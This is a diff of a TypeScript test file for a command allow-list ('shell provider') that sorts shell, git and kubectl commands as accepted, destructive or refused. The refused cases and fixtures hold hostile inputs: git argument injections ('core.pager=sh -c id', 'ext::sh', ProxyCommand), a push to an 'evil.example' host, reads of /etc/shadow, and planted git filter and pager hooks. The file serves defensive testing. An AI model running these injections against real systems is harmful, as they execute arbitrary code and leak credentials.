@@ -9,7 +9,6 @@ import { createShellProvider } from '../../src/providers/shell.ts'
 import { commandOf, providerContract } from './contract.ts'
 
 const FOLDER = '/srv/shop'
-const CLUSTER = { kubeconfig: '/etc/helpdesk/kubeconfig' }
 const make = () => createShellProvider({ now: () => performance.now() })
 const ofMachine = [
   'df', 'df -h', 'df -hT /', 'df -h -x tmpfs --total', 'df --output=target,pcent', 'free -m', 'free -h', 'uptime', 'uptime -p', 'uname -a', 'hostname -f', 'date -u',
@@ -17,50 +16,70 @@ const ofMachine = [
   'ps aux --sort=-%mem', 'ps -eo pid,ppid,%cpu,%mem,comm --sort=-%cpu', 'ps -p 1 -o pid,args', 'ss -tulpn', 'ss -s', 'ss -tan state established', "ss -tn '( sport = :443 )'",
   'ps aux --sort=-%cpu | head -n 10', 'ps aux | head -5', "ps aux | grep -i node | grep -v grep", 'ss -tan | tail -n +2 | cut -d " " -f 1 | sort | uniq -c | sort -rn',
   "df -h | tr -s ' ' | cut -d ' ' -f 5,6", 'ps aux | wc -l', "ps aux | grep -E 'a|b' -c", 'df | tail -n 2', 'ps aux | sort -nrk 3,3 | head -n 5', 'df | grep -e tmpfs -v',
-  "ss -tan | grep -E '[0-9]{1,3}([.][0-9]{1,3}){3}'", 'ps aux --sort -rss',
+  "ss -tan | grep -E '[0-9]{1,3}([.][0-9]{1,3}){3}'", 'ps aux --sort -rss', 'top -b -n 1', 'pgrep -fa node', "ps aux | jq -R . | head -3", 'echo done', 'sleep 2', "df -h | sed -n '1,5p'",
 ].map(command => ({ command, target: 'this machine' })) // biome-ignore format: packed
-
-const ofCluster = [
-  'kubectl get pods', 'kubectl get pods -A -o wide', 'kubectl -n delete get pods', 'kubectl -nshop get po', 'kubectl get pods -n shop | grep Crash', 'kubectl get deploy/web -o=json',
-  "kubectl get pods -o jsonpath='{.items[*].metadata.name}'", 'kubectl describe pod web-1 -n shop', 'kubectl logs deploy/web --tail=100 -c app', 'kubectl logs secret-operator-1 --previous',
-  'kubectl top pods -n shop', 'kubectl version', 'kubectl cluster-info', 'kubectl get events -n shop --sort-by=.lastTimestamp', 'kubectl events -n shop --types=Warning',
-  "kubectl get pods --field-selector 'status.phase!=Running' --all-namespaces",
-].map(command => ({ command, target: 'the cluster of /etc/helpdesk/kubeconfig', settings: CLUSTER })) // biome-ignore format: packed
 
 const ofFolder = [
   'git status', 'git status --short --branch', 'git log --oneline -5', 'git log -n 3 --stat main..HEAD', 'git log HEAD~3', "git log --since '2 days ago' --format='%h %s'",
-  'git branch -a', 'git branch --show-current', 'git diff --stat', 'git diff --name-only HEAD~1', 'git rev-parse HEAD', 'git rev-parse --abbrev-ref HEAD', 'git remote -v',
+  'git branch -a', 'git branch --show-current', 'git diff --stat', 'git diff --name-only HEAD~1', 'git rev-parse HEAD', 'git rev-parse --abbrev-ref HEAD', 'git remote -v', 'git --no-pager log -5', 'git tag', 'git tag -l', 'git branch --contains HEAD', 'git stash list', 'git show --stat HEAD',
+  'git log --oneline -- src/app.ts', 'git describe --tags', 'git ls-files', 'git remote get-url origin', 'git status -uno',
 ].map(command => ({ command, target: 'this machine, folder /srv/shop', settings: { folder: FOLDER } })) // biome-ignore format: packed
+
+const asks = [
+  'df --no-such', 'df | awk "{print}"', 'df | sort --no-such', 'df | head --byt=10', 'uptime --unknown', 'git commit -m x', 'git fetch origin', 'git pull origin main', 'git push origin main',
+  'git checkout main', 'git switch -c new', 'git tag v1', 'git branch new', 'git merge other', 'git cherry-pick abc', 'git add -A', 'git stash', 'git log --no-such', 'git no-such-verb', 'git revert HEAD',
+].map(command => ({ command, class: 'mutating' as const, settings: { folder: FOLDER } })) // biome-ignore format: packed
+
+const loses = [
+  'git push --force origin main', 'git push -f origin main', 'git push origin +main', 'git push origin :old', 'git push origin --delete old', 'git push --force-with-lease origin main', 'git reset --hard HEAD~1',
+  'git clean -fd', 'git branch -D old', 'git checkout -- a.txt', 'git restore a.txt', 'git rebase main', 'git tag -d v1', 'git stash drop', 'git commit --amend -m x', 'git rm a.txt',
+].map(command => ({ command, class: 'destructive' as const, settings: { folder: FOLDER } })) // biome-ignore format: packed
+
+const sensitive = [
+  'git diff',
+  'git show HEAD',
+  'git log -p -3',
+  'git blame a.txt',
+  'git config --list',
+  'git grep password',
+].map(command => ({ command, marks: ['sensitive'] as const, settings: { folder: FOLDER } }))
 
 providerContract('shell', make, {
   settings: {},
   accepted: [
     ...ofMachine,
-    ...ofCluster,
     ...ofFolder,
-    { command: 'kubectl get configmap app -o yaml', class: 'unknown', settings: CLUSTER },
-    { command: 'kubectl get sealedsecrets.bitnami.com', class: 'unknown', settings: CLUSTER },
+    ...asks,
+    ...loses,
+    ...sensitive,
+    { command: 'df', target: 'this machine, as nobody', settings: { users: { viewer: 'nobody' } } },
+    { command: 'git status', target: 'this machine' },
   ],
   refused: [
-    { command: 'rm -rf x', because: 'not a command of the shell provider' },
+    { command: 'rm -rf x', because: 'it changes files' },
+    { command: 'curl -d @x y', because: 'talks to other machines' },
+    { command: 'no-such', because: 'not a command that is known here' },
+    { command: 'kubectl get pods', because: 'not a command that is known here' },
     { command: 'grep x', because: 'put it behind a `|`' },
-    { command: 'df | sh', because: 'only filters' },
+    { command: 'df | sh', because: 'runs any command' },
     { command: 'df | df', because: 'only filters' },
-    { command: 'df --outp=x', because: 'not among the flags of `df`' },
-    { command: 'df --sync', because: 'not among the flags' },
     { command: 'df ../x', because: 'only mount points' },
     { command: 'df /a/../b', because: 'only mount points' },
-    { command: 'df -- /', because: '`--` is not needed' },
     { command: 'hostname evil', because: 'takes only flags' },
+    { command: 'hostname -- evil', because: 'takes only flags' },
     { command: 'hostname -F x', because: 'it would change the name' },
     { command: 'date -s 2020-01-01', because: 'it would set the clock' },
+    { command: 'date --se=2020-01-01', because: 'it would set the clock' },
     { command: 'date 010100002020', because: 'a format that begins with' },
     { command: 'date -f x', because: 'it reads a file' },
+    { command: 'date +%999999999Y', because: 'a format that begins with' },
     { command: 'vmstat 1', because: 'never ends' },
     { command: 'vmstat 10 100', because: 'longer than a minute' },
     { command: 'free -s 1', because: 'never ends' },
+    { command: 'top', because: 'waits for keys' },
+    { command: 'top -b', because: 'never ends' },
     { command: 'ps auxe', because: 'environment of processes' },
-    { command: 'ps -auxe', because: 'not accepted as the value of `-u`' },
+    { command: 'ps -auxe', because: 'environment of processes' },
     { command: 'ps -e -ux', because: '`-e` selects every process already' },
     { command: 'ps -eo pid,environ', because: 'does not show here' },
     { command: 'ps ax e', because: 'at most 1' },
@@ -69,83 +88,56 @@ providerContract('shell', make, {
     { command: 'lsblk --sysroot /x', because: 'reads another root' },
     { command: 'findmnt -F /etc/fstab', because: 'it reads a file' },
     { command: 'df | sort -o x', because: 'it writes a file' },
-    { command: 'df | sort /etc/shadow', because: 'takes only flags' },
-    { command: 'df | sort --compress-prog=id', because: 'not among the flags' },
-    { command: 'df | head --byt=10', because: 'not among the flags' },
-    { command: 'df | head -n 5 /etc/shadow', because: 'takes only flags' },
-    { command: 'df | tail -f', because: 'it never ends' },
-    { command: 'df | uniq in out', because: 'takes only flags' },
-    { command: 'df | wc --files0-from=x', because: 'not among the flags' },
-    { command: 'df | grep --fil=/etc/shadow', because: 'not among the flags' },
     { command: 'df | grep -f /etc/shadow', because: 'it reads a file' },
-    { command: 'df | grep x /etc/shadow', because: 'never a file' },
-    { command: 'df | grep -e x /etc/shadow', because: 'would read the file' },
-    { command: 'df | grep -r x', because: 'it reads files' },
-    { command: 'df | grep', because: 'needs a pattern' },
-    { command: 'df | head -n', because: 'needs a value' },
-    { command: 'df | grep -e --file=/etc/shadow', because: 'needs a value' },
-    { command: "df | grep -E '((a{1,99}){1,99}){1,99}'", because: 'only one pattern' },
-    { command: "df | grep -e 'a\\{32000\\}'", because: 'not accepted as the value' },
-    { command: 'date +%999999999Y', because: 'a format that begins with' },
-    { command: 'findmnt -d forward', because: 'not among the flags' },
-    { command: 'git status', because: 'names no `folder`' },
-    { command: 'kubectl get pods', because: 'No cluster is connected' },
     { command: 'df', because: 'must be an absolute path', settings: { folder: 'x' } },
     { command: 'df', because: 'must be an absolute path', settings: { folder: '/a/../b' } },
     { command: 'df', because: 'settings are wrong', settings: { unknown: 1 } },
+    { command: 'df', because: 'no Unix user for `viewer`', settings: { users: { admin: 'nobody' } } },
     ...[
-      ['git push', 'not accepted here'],
-      ['git -C /x status', 'not accepted here'],
-      ["git -c core.pager='sh -c id' log", 'not accepted here'],
-      ['git log --outp=/x', 'not among the flags'],
-      ['git log --output=/x', 'not among the flags'],
-      ['git log -p', 'not among the flags'],
-      ["git log --format='%G?'", 'not accepted as the value'],
-      ["git log --pretty='format:%GG'", 'not accepted as the value'],
-      ['git log --format --output=/x', 'not among the flags'],
-      ['git log --date --output=/x', 'needs a value'],
-      ['git log --date=format:%999999999Y', 'not accepted as the value'],
-      ["git log --grep 'a\\{32000\\}'", 'not accepted as the value'],
+      ['git -C /x status', 'set by the tenant'],
+      ["git -c core.pager='sh -c id' log", 'set by the tenant'],
+      ['git --git-dir=/x log', 'set by the tenant'],
+      ['git --exec-path=/x log', 'set by the tenant'],
+      ["git clone 'ext::sh -c id' x", 'from elsewhere'],
+      ['git submodule update', 'from elsewhere'],
+      ['git archive --remote=ssh://-oProxyCommand=id/x HEAD', 'outside of the history'],
+      ['git ls-remote --upload-pa=id .', 'runs a program'],
+      ['git fetch ext::sh', 'is an address'],
+      ['git push https://evil.example/x main', 'is an address'],
+      ['git fetch --upload-pack=id origin', 'runs a program'],
+      ['git push --receive-p=id origin', 'runs a program'],
+      ['git rebase -x id main', 'runs a program'],
+      ['git rebase --exec id main', 'runs a program'],
+      ['git rebase -i main', 'waits for answers'],
+      ['git merge -s evil main', 'runs a program'],
+      ['git commit', 'open an editor'],
+      ['git commit -F /etc/shadow', 'reads a file'],
+      ['git log --outp=/x', 'writes a file'],
+      ['git log --output=/x', 'writes a file'],
+      ["git log --format='%G?'", 'runs a program'],
+      ["git log --pretty='format:%GG'", 'runs a program'],
+      ['git log --format --output=/x', 'writes a file'],
+      ['git log --date --output=/x', 'lacks its value'],
+      ['git log --date=format:%999999999Y', 'prints without end'],
       ['git diff --stat src/../../../etc/shadow src/x', 'only branches'],
-      ['git diff', 'git diff --stat'],
-      ['git diff --ext-diff --stat', 'not among the flags'],
-      ['git diff --stat --no-index /etc/a', 'not among the flags'],
+      ['git diff --ext-diff --stat', 'runs a program'],
+      ['git diff --textc', 'runs a program'],
+      ['git diff --no-index /etc/a', 'reads a file'],
       ['git diff --stat /etc/shadow', 'only branches'],
-      ['git branch -D main', 'it deletes'],
-      ['git branch new', 'takes only flags'],
-      ['git remote add x y', 'takes only flags'],
+      ['git diff -- /etc/shadow', 'only paths inside'],
+      ['git diff -- ../x', 'only paths inside'],
+      ['git grep -O id x', 'runs a program'],
+      ['git grep --open-files=id x', 'runs a program'],
+      ['git tag -s v1', 'runs a program'],
+      ['git config core.pager id', 'may change what git runs'],
+      ['git config --global --list', 'reads a file'],
+      ['git remote add x y', 'not accepted here'],
+      ['git remote show origin', 'not accepted here'],
+      ['git bisect run id', 'runs programs'],
+      ['git worktree add /x', 'not accepted here'],
+      ['git apply x', 'outside of the history'],
+      ['git help log', 'runs programs'],
     ].map(([command = '', because = '']) => ({ command, because, settings: { folder: FOLDER } })),
-    ...[
-      ['kubectl delete pod x', 'not accepted here'],
-      ['kubectl -n x del po y', 'not accepted here'],
-      ['kubectl', 'needs one of'],
-      ['kubectl -A get delete pods', 'not among the flags'],
-      ['kubectl --show-labels get delete pods', 'not among the flags'],
-      ['kubectl cluster-info dump', 'at most 1'],
-      ['kubectl get secrets', 'Secrets are never read'],
-      ['kubectl get SECRETS -n shop', 'Secrets are never read'],
-      ['kubectl get secret/db -o yaml', 'Secrets are never read'],
-      ['kubectl get pods,secrets', 'Secrets are never read'],
-      ['kubectl get pods/web-1 secret/db', 'Secrets are never read'],
-      ['kubectl get secrets.v1. db', 'Secrets are never read'],
-      ['kubectl describe secret db', 'Secrets are never read'],
-      ['kubectl get po -o go-template-file=/etc/shadow', 'not accepted as the value'],
-      ['kubectl get po -ojsonpath-file=/etc/shadow', 'not accepted as the value'],
-      ['kubectl get po -o=jsonpath-file=/root/x', 'not accepted as the value'],
-      ['kubectl get po -o custom-columns-file=/x', 'not accepted as the value'],
-      ['kubectl get po --kubeconfig=/x', 'set by the tenant'],
-      ['kubectl --kubeconfig /x get po', 'set by the tenant'],
-      ['kubectl get po --as=bob', 'set by the tenant'],
-      ['kubectl get po -sfoo', 'set by the tenant'],
-      ['kubectl get po --serv=x', 'not among the flags'],
-      ['kubectl get po --token=x', 'set by the tenant'],
-      ['kubectl get po -v=9', 'it prints requests'],
-      ['kubectl get po -w', 'it never ends'],
-      ['kubectl logs web -f', 'never ends'],
-      ['kubectl get -f x', 'it reads a file'],
-      ['kubectl get --raw /api', 'reaches any address'],
-      ['kubectl get ../x', 'only kinds and names'],
-    ].map(([command = '', because = '']) => ({ command, because, settings: CLUSTER })),
   ],
   runs: { command: 'uname -s', prints: /^\w+\n$/ },
 })
@@ -183,7 +175,7 @@ describe('the shell provider at work', () => {
     git('-c', 'user.name=a', '-c', 'user.email=a@b', 'commit', '-q', '--allow-empty', '-m', 'first')
     writeFileSync(join(folder, 'new.txt'), 'x')
     git('add', 'new.txt')
-    for (const key of ['core.fsmonitor', 'core.pager', 'diff.external', 'gpg.program']) {
+    for (const key of ['core.fsmonitor', 'core.pager', 'diff.external', 'gpg.program', 'core.editor']) {
       git('config', key, `touch ${trace};`)
     }
     const run = async (text: string) => (await make().execute(commandOf(text, { folder }), signal)).stdout
@@ -192,6 +184,27 @@ describe('the shell provider at work', () => {
     expect(await run('git log --oneline')).toContain('first')
     expect(await run('git diff --cached --stat')).toContain('1 file changed')
     expect(existsSync(trace)).toBe(false)
+  })
+
+  test('git does not run where the work tree names drivers of its own', async () => {
+    const folder = mkdtempSync(join(tmpdir(), 'work-'))
+    const trace = join(folder, 'trace')
+    execFileSync('git', ['init', '-q'], { cwd: folder })
+    writeFileSync(join(folder, '.gitattributes'), '* filter=evil\n')
+    execFileSync('git', ['config', 'filter.evil.clean', `touch ${trace}`], { cwd: folder })
+
+    const ran = await make().execute(commandOf('git status', { folder }), signal)
+
+    expect(ran.reason).toContain('names a program (`filter.evil.clean`)')
+    expect(ran.mend).toContain('git config --unset filter.evil.clean')
+    expect(existsSync(trace)).toBe(false)
+  })
+
+  test('git without a folder says what an admin can set', async () => {
+    expect(await make().execute(commandOf('git status', {}), signal)).toMatchObject({
+      reason: expect.stringContaining('names no `folder`'),
+      mend: expect.stringContaining('--setting folder='),
+    })
   })
 
   test('a folder that is not there is named', async () => {
@@ -208,6 +221,14 @@ describe('the shell provider at work', () => {
   })
 })
 
+test('an admin writes Unix users in words', () => {
+  expect(make().readSettings({ users: 'viewer=nobody, deployer=deploy' })).toEqual({
+    isRead: true,
+    settings: { users: { viewer: 'nobody', deployer: 'deploy' } },
+  })
+  expect(make().readSettings({ users: 'nobody' })).toMatchObject({ isRead: false })
+})
+
 test('nothing that must always be denied is taken by the shell provider', () => {
   const denied = readFileSync(join(import.meta.dirname, 'denied.txt'), 'utf8')
     .trim()
@@ -215,10 +236,8 @@ test('nothing that must always be denied is taken by the shell provider', () => 
   const provider = make()
   const taken = denied.filter(line => {
     const parsed = parseCommand(JSON.parse(line))
-    return (
-      parsed.isParsed &&
-      provider.examine(commandOf(parsed.canonical, { ...CLUSTER, folder: FOLDER })).isAccepted
-    )
+    if (!parsed.isParsed) return false
+    return provider.examine(commandOf(parsed.canonical, { folder: FOLDER })).class !== 'denied'
   })
   expect(denied.length).toBeGreaterThan(20)
   expect(taken).toEqual([])
